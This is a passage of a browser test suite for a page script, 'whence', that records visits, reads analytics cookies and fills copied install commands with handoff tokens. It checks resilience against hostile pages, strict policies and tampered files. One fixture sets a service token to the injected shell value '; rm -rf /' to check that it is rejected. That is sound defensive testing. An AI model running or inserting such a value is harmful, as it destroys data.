      await page.goto(site.add(script('data-commands="pre >" data-copy-buttons="]]"') + INSTALL))
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      expect(await copy()).to.equal(true)
    })

    it('that the page adds later are filled as well', async () => {
      await page.goto(site.add(script()))
      await service.waitFor('/activate')
      await run(`document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(INSTALL)})`)
      await page.hover('#install')
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      expect(await copy()).to.equal(true)
      expect(await clipboard()).to.match(FILLED)
    })

    it('cost pages without any of them no request but those of the recorder and the keeper', async () => {
      await page.goto(site.add(`${script()}<p>Nothing to install`))
      await service.waitFor('/activate')
      await page.hover('p')
      await barrier()
      const parts = service.requests.filter(({ path: where }) => where.startsWith('/browser/'))
      expect(new Set(parts.map(({ path: where }) => where))).to.deep.equal(
        new Set([fileOf(manifest, '/browser/recorder').url, fileOf(manifest, '/browser/keeper').url]),
      )
    })
  })

  describe('the typed interface', () => {
    it('gives a token and fills commands, waiting or at once', async () => {
      await page.goto(site.add(script()))
      await loaded()
      expect(await run(`whence.fill('${COMMAND}')`)).to.equal(COMMAND)
      expect(await run(`whence.command('${COMMAND}')`)).to.match(FILLED)
      expect(await run(`whence.fill('${COMMAND}')`)).to.match(FILLED)
      expect(await run(`whence.fill('brew install acme')`)).to.equal('brew install acme')
      expect(await run(`whence.handoff()`)).to.have.all.keys('token', 'expiresAt')
      expect(service.requests.filter(({ path: where }) => where === '/v1/handoffs')).to.have.length(1)
    })

    it('makes a visit of its own if another tab has replaced the receipt', async () => {
      service.misbehave.set('/v1/handoffs', { status: 409, body: '{"error":"receipt_revoked"}' })
      await page.goto(site.add(script()))
      await service.waitFor('/activate')
      const asked = run('whence.handoff()')
      const [first] = await service.waitFor('/v1/handoffs')
      expect(first?.body).to.have.property('receipt')
      expect(await asked).to.equal(null)
      const [, second] = await service.waitFor('/v1/handoffs', 2)
      expect(second?.body).to.include.keys('url_id', 'page_url', 'identities')
      expect(second?.body).not.to.have.any.keys('receipt', 'previous_receipt')
    })

    it('runs callbacks that the page has queued, though one of them throws', async () => {
      await page.goto(
        site.add(
          `<script>window.whence = [() => { throw new Error('of the page') }, (w) => (window.got = w.project)]</script>${script()}`,
        ),
      )
      await page.waitForFunction('window.got')
      expect(noise.splice(0)).to.deep.equal(['Error: of the page'])
      expect(await run('window.got')).to.equal('acme-dev')
    })

    it('reports what a callback throws as an error of the page, and goes on', async () => {
      await page.goto(site.add(script()))
      await loaded()
      const reported = page.waitForEvent('pageerror')
      expect(await run(`whence.push(() => { throw new Error('of the page') })`)).to.equal(undefined)
      const error = await reported
      expect(String(error)).to.equal('Error: of the page')
      expect(noise.splice(0)).to.deep.equal(['Error: of the page'])
    })

    it('is the only name that the script adds to the page', async () => {
      await page.goto(
        site.add(`<script>window.before = new Set(Object.getOwnPropertyNames(window))</script>${script()}${INSTALL}`),
      )
      await service.waitFor('/v1/handoffs')
      expect(await run('Object.getOwnPropertyNames(window).filter((n) => !window.before.has(n))')).to.deep.equal([
        'before',
        'whence',
      ])
    })
  })

  describe('a frame of another site', () => {
    it('records its visit, leaves no marker and activates nothing, and its command carries the token', async () => {
      const inner = site.add(script() + INSTALL)
      const outer = site
        .add(`<iframe src="${inner}" width="800" height="300" allow="clipboard-write"></iframe>`)
        .replace(site.origin, site.foreignOrigin)
      await page.goto(outer)
      const frame = page.frames()[1]
      expect(await frame?.evaluate('whence.handoff()')).to.have.property('token')
      const [visit] = await visits()
      expect(visit?.body).to.deep.include({ project: 'acme-dev', page_url: inner, gpc: false })
      expect(visit?.body.previous_receipt).to.equal(null)
      const [handoff] = await service.waitFor('/v1/handoffs')
      expect(handoff?.body).to.have.property('receipt')
      expect(collected()).not.to.include('/v1/visits/activate')
      expect(
        await frame?.evaluate(
          `(async () => { for await (const k of (await navigator.storage.getDirectory()).keys()) return k })().catch(() => {})`,
        ),
      ).to.equal(undefined)
    })
  })

  describe('if the service is unreachable', () => {
    const works = async () => {
      await page.click('[data-whence-copy]')
      await page.waitForFunction(`navigator.clipboard.readText().then((text) => text === ${JSON.stringify(COMMAND)})`)
    }
    const OWN = `<script>document.querySelector('button').onclick = () => navigator.clipboard.writeText('${COMMAND}')</script>`

    it('page and copy button work: nothing listens there', async () => {
      await page.goto(
        site.add(`<script async src="http://127.0.0.1:1/browser.js" data-project="acme-dev"></script>${INSTALL}${OWN}`),
      )
      await run(`navigator.clipboard.writeText('')`)
      await works()
    })

    it('page and copy button work: the script hangs', async () => {
      service.misbehave.set('/browser.js', 'hang')
      await page.goto(site.add(script() + INSTALL + OWN), { waitUntil: 'commit' })
      await service.waitFor('/browser.js')
      await run(`navigator.clipboard.writeText('')`)
      await works()
    })

    const TROUBLES: [string, Parameters<RecordingService['misbehave']['set']>[1]][] = [
      ['answers 500', { status: 500, body: '{"error":"internal"}' }],
      ['answers 503', { status: 503, body: '{"error":"unavailable"}' }],
      ['answers no JSON', { status: 200, body: '<html>' }],
      ['answers null', { status: 200, body: 'null' }],
      [
        'answers other JSON',
        { status: 200, body: '{"measurementIds":7,"providers":null,"marker":[],"token":"; rm -rf /","expires_at":1}' },
      ],
      ['hangs', 'hang'],
    ]
    for (const where of ['/browser-config', '/v1/visits', '/v1/visits/activate', '/v1/handoffs']) {
      for (const [what, trouble] of TROUBLES) {
        it(`page and copy button work: ${where} ${what}`, async () => {
          service.misbehave.set(where, trouble)
          await page.goto(site.add(script() + INSTALL))
          await service.waitFor(where)
          await page.waitForFunction(`(async () => (await caches?.keys?.(), document.readyState === 'complete'))()`)
          await run(`whence.command(${JSON.stringify(COMMAND)})`)
          await copy()
          const text = await clipboard()
          expect(text).to.satisfy((copied: string) => copied === COMMAND || FILLED.test(copied))
          if (where === '/v1/handoffs') expect(text).to.equal(COMMAND)
        })
      }
    }

    it('the extras that do not come keep neither visit nor page from working', async () => {
      service.config = { measurementIds: [], providers: ['ga4', 'google_ads'] }
      service.misbehave.set('.js', 'hang')
      service.misbehave.delete('.js')
      service.misbehave.set(fileOf(manifest, '/browser/extras').url, 'hang')
      await page.goto(
        `${site.add(`<script>window.whence = [(w) => w.adapter('a', () => ({ b: 1 }))]</script>${script()}${INSTALL}`)}?gclid=1`,
      )
      await service.waitFor('/activate')
      expect(await run('whence.handoff()')).to.equal(null)
      expect(await run(`whence.command('${COMMAND}')`)).to.equal(COMMAND)
      expect((await visits())[0]?.body.identities.google_ads).to.include({ gclid: '1' })
    })

    it('a recorder that does not come leaves the visit as it began', async () => {
      service.config = { measurementIds: ['G-A1'], providers: ['ga4', 'google_ads'] }
      service.misbehave.set(fileOf(manifest, '/browser/recorder').url, 'hang')
      await page.goto(`${site.add(script() + INSTALL)}?gclid=1&utm_source=s`)
      const [visit] = await visits()
      expect(visit?.body).to.include({ gpc: false }).and.not.have.property('identities')
      expect(visit?.body.source.utm).to.deep.equal({ source: 's' })
    })

    it('readers that do not come leave out their identifiers alone', async () => {
      service.config = { measurementIds: ['G-A1'], providers: ['ga4', 'google_ads'] }
      for (const { url } of manifest.files) if (url.startsWith('/browser/reader.')) service.misbehave.set(url, 'hang')
      await page.goto(
        `${site.add(`<script>document.cookie = '_ga=GA1.1.5.6'; document.cookie = '_ga_A1=GS1.1.77.1'</script>${script()}${INSTALL}`)}?gclid=1&utm_source=s`,
      )
      await service.waitFor('/activate')
      const [visit] = await visits()
      expect(visit?.body.identities).to.deep.equal({ ga4: { 'G-A1': { client_id: '5.6', session_id: '77' } } })
      expect(visit?.body.source.utm).to.deep.equal({ source: 's' })
    })
  })

  describe('on strict pages', () => {
    const policy = (more = '') => ({
      'content-security-policy': `default-src 'none'; script-src ${service.url}; connect-src ${service.url}; ${more}`,
    })

    it('works under a policy that allows nothing but the service', async () => {
      await page.goto(site.add(script() + INSTALL, policy()))
      await service.waitFor('/v1/handoffs')
      await page.hover('#install')
      expect(await copy()).to.equal(true)
    })

    it('works under a policy of nonces', async () => {
      const headers = {
        'content-security-policy': `default-src 'none'; script-src 'nonce-abc'; connect-src ${service.url}`,
      }
      await page.goto(site.add(script('nonce="abc"') + INSTALL, headers))
      await service.waitFor('/v1/handoffs')
    })

    it('works if Trusted Types are enforced', async () => {
      await page.goto(site.add(script() + INSTALL, policy("require-trusted-types-for 'script'; trusted-types whence")))
      await service.waitFor('/v1/handoffs')
    })

    it('works with the integrity digest of the immutable address, and passes it on to the extras', async () => {
      const core = fileOf(manifest, '/browser')
      const pinned = `<script async src="${service.url}${core.immutableUrl}" integrity="${core.integrity}" crossorigin="anonymous" data-project="acme-dev"></script>`
      await page.goto(site.add(pinned + INSTALL))
      await service.waitFor('/v1/handoffs')
      expect(await run(`document.querySelector('script[src*="/browser/"]').integrity`)).to.match(/^sha256-/)
    })

    it('does not run extras that were altered on their way, and says so with data-debug', async () => {
      service.misbehave.set(fileOf(manifest, '/browser/extras').url, { status: 200, body: 'window.isAltered = true' })
      await page.goto(site.add(script('data-debug') + INSTALL))
      await service.waitFor('/activate')
      expect(await run('whence.handoff()')).to.equal(null)
      expect(await run('window.isAltered')).to.equal(undefined)
      expect(noise.splice(0).join()).to.include('was altered on its way')
    })

    for (const part of ['extras', 'recorder'])
      it(`does not run the ${part} if only what would run was altered, and not what was checked`, async () => {
        const { url } = fileOf(manifest, `/browser/${part}`)
        await page.route(service.url + url, (route) =>
          route.request().resourceType() === 'script'
            ? route.fulfill({
                contentType: 'text/javascript',
                headers: { 'access-control-allow-origin': '*' },
                body: 'window.isAltered = true',
              })
            : route.continue(),
        )
        await page.goto(site.add(script() + INSTALL))
        // Without its recorder a visit is sent as it began.
        await service.waitFor('/v1/visits')
        await until(() => noise.splice(0).join().includes('integrity'), { what: 'the browser refuses it' })
        expect(await run('window.isAltered')).to.equal(undefined)
      })

    it('requests the extras once if they may be cached', async () => {
      const caching = await startRecordingService(bundle)
      try {
        caching.cacheControl = 'public, max-age=31536000, immutable'
        await page.goto(site.add(script().replace(service.url, caching.url) + INSTALL))
        await caching.waitFor('/v1/handoffs')
        const extras = caching.requests.filter(({ path: where }) => where.startsWith('/browser/extras'))
        expect(extras).to.have.length(1)
      } finally {
        await caching.close()
      }
    })

    it('works behind a path of the website itself', async () => {
      const proxied = await startRecordingService(bundle, '/w')
      try {
        await page.goto(
          site.add(`<script async src="${proxied.url}/browser.js?v=1" data-project="acme-dev"></script>${INSTALL}`),
        )
        await proxied.waitFor('/v1/handoffs')
        expect(proxied.requests.map(({ path: where }) => where)).to.include('/v1/visits/activate')
      } finally {
        await proxied.close()
      }
    })
  })

  describe('on hostile pages', () => {
    const HOSTILE: [string, string][] = [
      ['frozen prototypes', 'for (const c of [Object, Array, Promise, Map, Function]) Object.freeze(c.prototype)'],
      ['no crypto', `Object.defineProperty(window, 'crypto', { value: undefined })`],
      ['no fetch', 'delete window.fetch'],
      ['fetch that throws', `window.fetch = () => { throw new Error('blocked') }`],
      ['no storage manager', `Object.defineProperty(Navigator.prototype, 'storage', { get: () => undefined })`],
      [
        'storage that refuses',
        `StorageManager.prototype.getDirectory = () => Promise.reject(new DOMException('no', 'SecurityError'))`,
      ],
      ['no createWritable', 'delete FileSystemFileHandle.prototype.createWritable'],
      [
        'a full disk',
        `FileSystemFileHandle.prototype.createWritable = () => Promise.reject(new DOMException('full', 'QuotaExceededError'))`,
      ],
      [
        'session storage that throws',
        `Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('no', 'SecurityError') } })`,
      ],
      [
        'cookies that throw',
        `Object.defineProperty(Document.prototype, 'cookie', { get() { throw new DOMException('no', 'SecurityError') } })`,
      ],
      ['a frozen name', `Object.defineProperty(window, 'whence', { value: 7 })`],
      ['no clipboard', `Object.defineProperty(Navigator.prototype, 'clipboard', { get: () => undefined })`],
      ['no observers', 'delete window.IntersectionObserver'],
      ['no client hints', 'delete Navigator.prototype.userAgentData'],
      [
        'client hints that refuse',
        `NavigatorUAData.prototype.getHighEntropyValues = () => Promise.reject(new Error('no'))`,
      ],
      ['no timeouts of requests', 'delete AbortSignal.timeout'],
    ]
    for (const [what, spoil] of HOSTILE) {
      it(`never throws into a page with ${what}`, async () => {
        await page.addInitScript(spoil)
        await page.goto(site.add(script() + INSTALL))
        await service.waitFor('/browser.js')
        await page.waitForLoadState('load')
        await page.click('[data-whence-copy]')
        expect(
          await run(
            'Promise.resolve(window.whence?.handoff?.()).then((h) => h === undefined || h === null || !!h.token)',
          ),
        ).to.equal(true)
      })
    }

    /** Each makes every use of something throw, or takes it away. */
    const BLOCKED: [string, string][] = [
      ...HOSTILE.filter(([what]) => what !== 'a frozen name'),
      ...[
        'localStorage',
        'localStorage',
        'caches',
        'indexedDB',
        'crypto',
        'console',
        'navigation',
        'trustedTypes',
      ].flatMap((name): [string, string][] => [
        [
          `a ${name} that throws`,
          `Object.defineProperty(window, '${name}', { get() { throw new DOMException('no', 'SecurityError') } })`,
        ],
        [`no ${name}`, `Object.defineProperty(window, '${name}', { value: undefined, writable: true })`],
      ]),
      ...['cookie', 'referrer', 'currentScript', 'head'].map((name): [string, string] => [
        `a ${name} that throws`,
        `Object.defineProperty(document, '${name}', { get() { throw new DOMException('no', 'SecurityError') } })`,
      ]),
      ...['storage', 'userAgentData', 'clipboard', 'language', 'globalPrivacyControl', 'vendor', 'userAgent'].map(
        (name): [string, string] => [
          `navigator.${name} that throws`,
          `Object.defineProperty(Navigator.prototype, '${name}', { get() { throw new Error('no') } })`,
        ],
      ),
      ...['Intl', 'Blob', 'AbortSignal', 'Request', 'TextEncoder', 'IntersectionObserver', 'URLSearchParams'].map(
        (name): [string, string] => [`no ${name}`, `delete window.${name}`],
      ),
    ]
    const ofBoth = BLOCKED.flatMap(([what, spoil]) => [
      { what, spoil, attributes: '' },
      { what: `${what}, while it explains itself`, spoil, attributes: 'data-debug' },
    ])
    for (const { what, spoil, attributes } of ofBoth) {
      it(`no call throws or rejects on a page with ${what}`, async () => {
        isExplaining = attributes !== ''
        await page.addInitScript(spoil)
        await page.goto(site.add(script(attributes) + INSTALL))
        await page.waitForLoadState('load')
        // Not by the driver's own waiting, which needs what is blocked.
        while (!(await run('typeof window.whence?.scope === "function"')))
          await new Promise((resolve) => setImmediate(resolve))
        const answers = await run(`(async () => {
          const answers = []
          const call = async (name, ask) => { try { answers.push([name, await ask(window.whence)]) } catch (error) { answers.push([name, 'threw ' + error]) } }
          await call('scope', (w) => typeof w.scope('other-dev').scope)
          await call('scope of no name', (w) => typeof w.scope(Symbol('s')).scope)
          await call('adapter', (w) => w.adapter(Symbol('s'), 7))
          await call('start', (w) => w.start())
          await call('deny', (w) => w.deny())
          await call('handoff', (w) => w.handoff())
          await call('command', (w) => w.command(7))
          await call('fill', (w) => w.fill(null))
          await call('grant', (w) => w.grant())
          await call('deny again', (w) => w.deny())
          return answers.map(([name, answer]) => name + ': ' + answer)
        })()`)
        expect(answers).to.deep.equal([
          'scope: function',
          'scope of no name: function',
          'adapter: undefined',
          'start: undefined',
          'deny: undefined',
          'handoff: null',
          'command: 7',
          'fill: null',
          'grant: undefined',
          'deny again: undefined',
        ])
      })
    }

    it('never throws into a page that blocks its cookies while the recorder is on its way, and counts it', async () => {
      service.config = { measurementIds: [], providers: ['ga4', 'meta'] }
      const { url } = fileOf(manifest, '/browser/recorder')
      service.misbehave.set(url, { delayMs: 300 })
      await page.goto(site.add(script()))
      await service.waitFor(url)
      await run(
        `Object.defineProperty(Document.prototype, 'cookie', { get() { window.wasRead = true; throw new Error('no') } })`,
      )
      await page.waitForFunction('window.wasRead')
      await service.waitFor('/activate')
      expect((await visits())[0]?.body.identities).to.deep.equal({})
    })

    it('removes the markers although the storage of the tab is blocked', async () => {
      await page.goto(site.add(script()))
      await service.waitFor('/activate')
      await run(
        `Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('no', 'SecurityError') } })`,
      )
      await run('whence.deny()')
      await page.waitForFunction(
        `(async () => { for await (const k of (await navigator.storage.getDirectory()).keys()) return false; return true })()`,
      )
    })

    it('counts although an adapter breaks its answer', async () => {
      await page.goto(
        site.add(`<script>window.whence = [(w) => {
          w.adapter('broken', () => ({ get lead() { throw new Error('mine') } }))
          w.adapter(Symbol('s'), () => ({ lead: 1 }))
          w.adapter('good', () => ({ lead: 1 })) }]</script>${script()}`),
      )
      expect((await visits())[0]?.body.identities).to.deep.equal({ custom: { good: { lead: 1 } } })
      await service.waitFor('/activate')
    })

    const NAMESAKES: [string, string][] = [
      ['with its name', '<p id="whence"></p>'],
      ['with its name and a property "scope"', '<table><tr><th id="whence" scope="col">'],
      ['with its name, twice', '<a id="whence"></a><a id="whence" name="scope"></a>'],
      [
        'that is a form with its name',
        '<form id="whence"><input name="scope"><input name="forEach"><input name="push"></form>',
      ],
      ['that is a frame of another site with its name', `<iframe name="whence" src="data:text/html,x"></iframe>`],
      ['that is an object with its name', '<form id="whence"><object name="scope"></object></form>'],
    ]
    for (const [what, html] of NAMESAKES) {
      it(`takes the place of an element ${what}`, async () => {
        await page.goto(site.add(`${html}</table>${script()}`))
        await service.waitFor('/activate')
        expect(await run('whence.project')).to.equal('acme-dev')
      })
    }

    const SHADOWED = [
      'currentScript',
      'querySelector',
      'querySelectorAll',
      'cookie',
      'referrer',
      'head',
      'body',
      'documentElement',
      'createElement',
      'addEventListener',
      'execCommand',
      'prerendering',
      'location',
      'defaultView',
      'scripts',
    ]
    for (const element of [
      '<img name="NAME" src="https://evil.invalid/x.png" data-project="evil">',
      '<form name="NAME" id="NAME"></form>',
    ])
      it(`works on a page whose elements have the names of the document's properties: ${element}`, async () => {
        service.config = { measurementIds: ['G-A1'], providers: ['ga4'] }
        const shadows = SHADOWED.map((name) => element.replaceAll('NAME', name)).join('')
        const globals = ['navigation', 'trustedTypes', 'crypto', 'fetch', 'IntersectionObserver', 'top', 'caches']
        const ids = globals.map((name) => `<a id="${name}"></a><iframe name="${name}" src="data:text/html,x"></iframe>`)
        await page.route('https://evil.invalid/**', (route) => route.abort())
        await chromium.context.addCookies([
          { name: '_ga', value: 'GA1.1.5.6', url: site.origin },
          { name: '_ga_A1', value: 'GS2.1.s77$o1', url: site.origin },
        ])
        await page.goto(site.add(`${shadows}${ids.join('')}${script()}${INSTALL}`), {
          referer: 'https://news.example/item',
        })
        await service.waitFor('/v1/handoffs')
        const [visit] = await visits()
        expect(visit?.body).to.include({ project: 'acme-dev', referrer: 'https://news.example/item' })
        expect(visit?.body.identities.ga4).to.deep.equal({ 'G-A1': { client_id: '5.6', session_id: '77' } })
        await tokenHere()
        expect(await copy()).to.equal(true)
        expect(await clipboard()).to.match(FILLED)
      })

    it('works in a form whose fields have the names of its properties', async () => {
      const fields = [
        'closest',
        'matches',
        'dataset',
        'innerText',
        'parentElement',
        'querySelector',
        'dispatchEvent',
        'checkVisibility',
      ]
      const inputs = fields.map((name) => `<input name="${name}">`).join('')
      await page.goto(
        site.add(
          `${script()}<form style="padding: 50px" data-whence-command>${inputs}</form><form style="padding: 50px">${inputs}${INSTALL}</form>`,
        ),
      )
      await service.waitFor('/v1/handoffs')
      await page.mouse.move(60, 60)
      await tokenHere()
      // The driver's own click stumbles over such forms.
      const { x, y } = await run(`(() => {
        const button = document.querySelector('button')
        button.type = 'button'
        window.copied = new Promise((resolve) => addEventListener('whence:copy', (e) => resolve(e.detail.filled)))
        return button.getBoundingClientRect().toJSON()
      })()`)
      await page.mouse.click(x + 2, y + 2)
      expect(await run('window.copied')).to.equal(true)
      expect(await clipboard()).to.match(FILLED)
    })

    it('does nothing on a page that is not secure', async () => {
      await page.addInitScript(`Object.defineProperty(window, 'isSecureContext', { value: false })`)
      await page.goto(site.add(script('data-page-id="p"') + INSTALL))
      await loaded()
      expect(await run('whence.handoff()')).to.equal(null)
      await barrier()
      expect(collected()).to.deep.equal([])
    })

    it('asks for no permission and no lasting storage', async () => {
      await page.addInitScript(`StorageManager.prototype.persist = () => { console.error('persist was asked for') }
        Worker = class { constructor() { console.error('a worker was started') } }`)
      await page.goto(site.add(script() + INSTALL))
      await service.waitFor('/v1/handoffs')
    })
  })

  it('keeps a marker in a private window only as long as the window lives', async () => {
    const browser = chromium.context.browser()
    const count = (await markersOnDisk(chromium.profile)).length
    const context = await browser?.newContext()
    const hidden = await context?.newPage()
    await hidden?.goto(site.add(script() + INSTALL))
    await service.waitFor('/activate')
    expect(await markersOnDisk(chromium.profile)).to.have.length(count)
    await context?.close()
  })
})
